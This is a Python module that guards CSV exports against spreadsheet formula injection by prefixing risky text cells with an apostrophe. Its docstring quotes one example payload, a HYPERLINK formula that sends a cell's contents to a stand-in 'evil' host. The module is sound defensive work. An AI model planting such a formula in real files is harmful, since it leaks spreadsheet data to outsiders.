"""CSV files people open in a spreadsheet: every export writes through here.

A cell starting with = + - @ (or a tab or carriage return, which some spreadsheets skip before
reading a formula) is run as a formula when the file is opened: a reviewer's comment
`=HYPERLINK("http://evil/?"&A1, "click")` would leak the sheet. Such text cells get a leading
apostrophe (OWASP's advice), which spreadsheets show as text. Numbers are written as numbers.
"""
from __future__ import annotations

import csv
from typing import Any, Iterable, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer or csv.DictWriter, with every text cell passed through `safe_cell`."""

    def __init__(self, inner: Any) -> None:
        self._inner = inner

    def writerow(self, row: Any) -> Any:
        if isinstance(row, dict):
            return self._inner.writerow({key: safe_cell(value) for key, value in row.items()})
        return self._inner.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Any]) -> None:
        for row in rows:
            self.writerow(row)

    def writeheader(self) -> Any:
        return self._inner.writeheader()


def writer(out: TextIO, **options: Any) -> SafeWriter:
    return SafeWriter(csv.writer(out, **options))


def dict_writer(out: TextIO, fieldnames: list[str], **options: Any) -> SafeWriter:
    return SafeWriter(csv.DictWriter(out, fieldnames=fieldnames, **options))
